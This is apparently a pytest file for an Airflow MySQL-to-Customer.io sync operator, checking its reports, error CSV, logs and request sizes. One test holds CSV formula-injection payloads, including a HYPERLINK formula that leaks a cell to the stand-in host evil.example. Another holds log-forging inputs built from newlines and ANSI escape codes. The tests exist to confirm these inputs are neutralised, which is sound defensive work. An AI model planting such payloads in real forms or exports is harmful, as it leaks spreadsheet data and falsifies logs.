"""What a sync reports: the XCom dict and the error CSV field by field, where the CSV goes, the task state (failed
without retry when a row failed), the task log (counts, never attribute values), and the request sizes."""

from __future__ import annotations

import os
from pathlib import Path

from sync_helpers import START, XCOM_FIELDS, MeasuredHook, next_logical_date, run_job, sync_dag_fixture  # noqa: F401

SECRET = "s3cr3t-plan-value"


def fill_users(mysql_db) -> None:
    mysql_db.execute("CREATE TABLE users (id VARCHAR(200), email VARCHAR(100), plan VARCHAR(2000), n INT)")
    mysql_db.insert(
        "users",
        [
            {"n": 1, "id": "1", "email": "ada@example.com", "plan": SECRET},
            {"n": 2, "id": "2", "email": "not-an-email", "plan": SECRET},
            {"n": 3, "id": "3", "email": None, "plan": SECRET + "x" * 1000},
            {"n": 4, "id": "1", "email": None, "plan": SECRET},
            {"n": 5, "id": None, "email": None, "plan": SECRET},
            {"n": 6, "id": "6", "email": "grace@example.com", "plan": SECRET},
        ],
    )


def test_the_xcom_dict_of_a_successful_sync_field_by_field(mysql_db, workspace, sync_dag) -> None:
    fill_users(mysql_db)
    run = sync_dag(sql="SELECT id, plan FROM users WHERE n IN (1, 6)", concurrency=1).run()

    assert run.state == "success"
    report = dict(run.report)
    duration = report.pop("duration_seconds")
    assert isinstance(duration, float) and duration >= 0
    assert report == {
        "import_type": "people",
        "rows_read": 2,
        "rows_sent": 2,
        "rows_failed": 0,
        "rows_suppressed": 0,
        "rows_not_sent": 0,
        "rows_unchanged": 0,
        "rows_removed": 0,
        "sync_mode": "upsert",
        "ops_sent": 2,
        "batches_sent": 1,
        "requests_sent": 2,  # the batch, then one read of the activity log
        "last_sync_time": 0,
        "error_report": None,
        "errors_by_type": {},
        "segment_id": None,
        "people_added_to_segment": 0,
        "row_limit_reached": False,
        "dry_run": False,
        "would_send": None,
        "failed_changes_checked": True,
        "error": None,
        "settings": {
            "customerio_conn_id": "customerio_default",
            "source_conn_id": "mysql_default",
            "identify_by": "id",
            "event_name": None,
            "update_only": False,
            "empty_values": "ignore",
            "on_removed": None,
            "segment_name": None,
            "segment_id": None,
        },
        "status": "success",
    }
    assert set(run.report) >= XCOM_FIELDS, "the fields DESIGN.md promises"


def test_the_xcom_dict_and_the_csv_of_a_sync_with_failed_rows_field_by_field(mysql_db, workspace, sync_dag) -> None:
    fill_users(mysql_db)
    run = sync_dag(sql="SELECT id, email, plan FROM users ORDER BY n", retries=2).run()

    assert run.state == "failed"
    assert "AirflowFailException" in run.log and "new_state=failed" in run.log, "failed at once, no retry"
    assert "new_state=up_for_retry" not in run.log
    report = dict(run.report)
    report.pop("duration_seconds")
    uri = report.pop("error_report")
    assert report == {
        "import_type": "people",
        "rows_read": 6,
        "rows_sent": 2,
        "rows_failed": 4,
        "rows_suppressed": 0,
        "rows_not_sent": 0,
        "rows_unchanged": 0,
        "rows_removed": 0,
        "sync_mode": "upsert",
        "ops_sent": 2,
        "batches_sent": report["batches_sent"],
        "requests_sent": report["requests_sent"],
        "last_sync_time": 0,
        "errors_by_type": {"invalid_email": 1, "too_large": 1, "duplicate_identifier": 1, "missing_identifier": 1},
        "segment_id": None,
        "people_added_to_segment": 0,
        "row_limit_reached": False,
        "dry_run": False,
        "would_send": None,
        "failed_changes_checked": True,
        "error": None,
        "settings": {
            "customerio_conn_id": "customerio_default",
            "source_conn_id": "mysql_default",
            "identify_by": "id",
            "event_name": None,
            "update_only": False,
            "empty_values": "ignore",
            "on_removed": None,
            "segment_name": None,
            "segment_id": None,
        },
        "status": "failed",
    }
    assert 1 <= report["batches_sent"] <= 2 and report["requests_sent"] == report["batches_sent"] + 1
    assert uri.startswith("file://") and uri.endswith(".csv")

    assert run.csv_rows == [
        {
            "row_number": "2",
            "identifier": "2",
            "error_type": "invalid_email",
            "message": "the email column is not a valid email address (RFC 5322)",
        },
        {
            "row_number": "3",
            "identifier": "3",
            "error_type": "too_large",
            "message": "column 'plan' is over 1000 bytes; shorten it in the query",
        },
        {
            "row_number": "4",
            "identifier": "1",
            "error_type": "duplicate_identifier",
            "message": "row 1 of this sync already has this identifier; each one may appear once",
        },
        {
            "row_number": "5",
            "identifier": "",
            "error_type": "missing_identifier",
            "message": "the id column is empty",
        },
    ]
    assert SECRET not in run.csv_text and "not-an-email" not in run.csv_text, "no attribute values in the CSV"


def test_the_log_states_counts_never_attribute_values(mysql_db, workspace, sync_dag) -> None:
    fill_users(mysql_db)
    run = sync_dag(sql="SELECT id, email, plan FROM users ORDER BY n").run()

    assert "people: 6 rows read, 2 sent, 4 failed, 0 suppressed in" in run.log
    assert "Error report: file://" in run.log and "(4 rows)" in run.log
    assert "4 rows failed (1 duplicate_identifier, 1 invalid_email, 1 missing_identifier, 1 too_large)" in run.log
    assert SECRET not in run.log
    assert "not-an-email" not in run.log and "grace@example.com" not in run.log


def test_the_csv_goes_under_the_airflow_home_by_default(mysql_db, workspace, sync_dag) -> None:
    fill_users(mysql_db)
    dag = sync_dag(sql="SELECT id, email FROM users WHERE n <= 2")
    run = dag.run()

    safe_run_id = "".join(c if c.isalnum() or c in "-_.+" else "_" for c in run.run_id)
    expected = Path(os.environ["AIRFLOW_HOME"], "cio_error_reports", dag.dag.dag_id, "sync", f"{safe_run_id}.csv")
    assert run.report["error_report"] == f"file://{expected}"
    assert expected.read_text() == (
        "row_number,identifier,error_type,message\n"
        "2,2,invalid_email,the email column is not a valid email address (RFC 5322)\n"
    )


def test_the_error_report_path_is_templated(mysql_db, workspace, sync_dag, tmp_path) -> None:
    fill_users(mysql_db)
    dag = sync_dag(
        sql="SELECT id, email FROM users WHERE n <= 2",
        error_report_path=f"file://{tmp_path}/reports/{{{{ dag.dag_id }}}}/{{{{ ti.task_id }}}}-errors.csv",
    )
    run = dag.run()

    path = tmp_path / "reports" / dag.dag.dag_id / "sync-errors.csv"
    assert run.report["error_report"] == f"file://{path}"
    assert path.read_text().splitlines()[1].startswith("2,2,invalid_email,")


def test_a_successful_sync_writes_no_csv(mysql_db, workspace, sync_dag) -> None:
    fill_users(mysql_db)
    dag = sync_dag(sql="SELECT id FROM users WHERE n = 1")
    run = dag.run()
    assert run.report["error_report"] is None
    assert not Path(os.environ["AIRFLOW_HOME"], "cio_error_reports", dag.dag.dag_id).exists()


def test_requests_stay_under_500000_bytes_and_ops_under_32000(mysql_db, workspace) -> None:
    mysql_db.execute("CREATE TABLE big (id INT PRIMARY KEY, a TEXT, b TEXT, c TEXT)")
    mysql_db.insert("big", [{"id": n, "a": "a" * 990, "b": "b" * 990, "c": "c" * 990} for n in range(1, 3001)])
    hook = MeasuredHook()
    job = run_job("SELECT * FROM big", hook=hook, concurrency=2)

    assert job.report.rows_sent == 3000 and not job.errors
    assert sum(hook.op_sizes) > 3 * 500_000, "enough data for many requests"
    assert max(hook.sent_sizes) <= 500_000 and max(hook.op_sizes) <= 32_000
    assert max(hook.sent_sizes) > 490_000, "requests are filled, not sent one op at a time"
    assert len(hook.sent_sizes) == job.report.batches_sent
    assert "413" not in workspace.stats()["POST /api/v2/batch"]["requests"], "the workspace never refused a size"
    assert len(workspace.people()) == 3000


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(1+1)"]
"""Emails someone typed into a sign-up form: each fails as an invalid email and lands in the report."""


def test_the_csv_neutralises_formulas_a_row_carries(mysql_db, workspace, sync_dag) -> None:
    mysql_db.execute("CREATE TABLE signups (n INT, email VARCHAR(200), plan VARCHAR(20))")
    emails = [*FORMULAS, "\t=1+1", "ada@example.com", "ada@example.com"]
    mysql_db.insert("signups", [{"n": n, "email": email, "plan": "free"} for n, email in enumerate(emails, 1)])

    run = sync_dag(sql="SELECT email, plan FROM signups ORDER BY n", identify_by="email").run()

    rows = [(int(r["row_number"]), r["identifier"], r["error_type"]) for r in run.csv_rows]
    assert rows == [
        *[(n, "'" + email, "invalid_email") for n, email in enumerate(FORMULAS, 1)],
        (5, "'\t=1+1", "invalid_email"),
        (7, "ada@example.com", "duplicate_identifier"),  # a cell that is no formula stays as it was
    ]
    cells = [cell for row in run.csv_rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert workspace.person(email="ada@example.com") is not None


def test_each_instance_of_a_mapped_sync_writes_its_own_error_report(mysql_db, workspace) -> None:
    from airflow.sdk import DAG
    from test_schedule import mapped_reports

    from airflow_provider_cio.operators.reverse_etl import MySQLReverseETLOperator
    from airflow_provider_cio.storage import safe_name
    from airflow_provider_cio.testing.dagruns import run_dag

    fill_users(mysql_db)
    queries = ["SELECT id, email FROM users WHERE n <= 2", "SELECT id, email, plan FROM users WHERE n >= 3"]
    with DAG("test_mapped_error_reports", schedule=None, start_date=START, catchup=False) as dag:
        MySQLReverseETLOperator.partial(task_id="sync", activity_settle_seconds=0).expand(sql=queries)

    outcome = run_dag(dag, next_logical_date())

    first, second = mapped_reports(outcome, "sync")
    assert (first["rows_failed"], second["rows_failed"]) == (1, 2)
    run_folder = Path(os.environ["AIRFLOW_HOME"], "cio_error_reports", dag.dag_id, "sync", safe_name(outcome.run_id))
    assert (first["error_report"], second["error_report"]) == (
        f"file://{run_folder}/0.csv",
        f"file://{run_folder}/1.csv",
    )
    assert (run_folder / "0.csv").read_text().splitlines()[1:] == [
        "2,2,invalid_email,the email column is not a valid email address (RFC 5322)"
    ]
    assert [line.split(",")[:3] for line in (run_folder / "1.csv").read_text().splitlines()[1:]] == [
        ["1", "3", "too_large"],
        ["3", "", "missing_identifier"],
    ]


def test_a_row_cannot_forge_lines_of_the_task_log(mysql_db, workspace, sync_dag) -> None:
    """Identifiers with control characters are refused before anything is sent, and the log states counts
    only: a row value never reaches the task log, so it cannot add a line there."""
    forged = "[2026-01-01 00:00:00] {base.py:1} INFO - people: 0 rows read, 0 failed"
    mysql_db.execute("CREATE TABLE users (n INT, id VARCHAR(200), email VARCHAR(200))")
    mysql_db.insert(
        "users",
        [
            {"n": 1, "id": f"7\n{forged}", "email": "ada@example.com"},
            {"n": 2, "id": "8", "email": f"grace@example.com\r\n{forged}"},
            {"n": 3, "id": "9\x1b[2K\rforged", "email": None},
        ],
    )

    run = sync_dag(sql="SELECT id, email FROM users ORDER BY n").run()

    # read with universal newlines, as a spreadsheet does: a CR left unquoted would split row 3 in two
    assert [(r["row_number"], r["error_type"]) for r in run.csv_rows] == [
        ("1", "invalid_identifier"),
        ("2", "invalid_email"),
        ("3", "invalid_identifier"),
    ]
    assert "forged" not in run.log and "0 rows read, 0 failed" not in run.log
    assert "people: 3 rows read, 0 sent, 3 failed, 0 suppressed in" in run.log
